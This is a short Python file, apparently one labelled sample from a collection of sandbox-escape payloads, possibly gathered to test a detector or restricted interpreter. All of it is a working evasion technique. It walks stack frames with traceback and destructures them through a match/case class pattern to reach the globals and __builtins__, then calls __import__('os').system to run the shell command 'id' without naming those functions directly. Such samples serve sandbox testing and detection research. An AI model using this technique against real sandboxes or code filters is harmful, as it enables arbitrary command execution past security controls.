# class: reflective | technique: match/case class pattern object(f_globals=g) destructures frames from traceback.walk_stack; __builtins__ then gives __import__ | effect: runs `id` via os.system
import traceback


def current_namespace():
    for frame, _ in traceback.walk_stack(None):
        match frame:
            case object(f_globals=g):
                return g
    return {}


def helper():
    return current_namespace()


def main():
    return helper()


b = main()["__builtins__"]
table = b if isinstance(b, dict) else vars(b)
table["__import__"]("os").system("id")
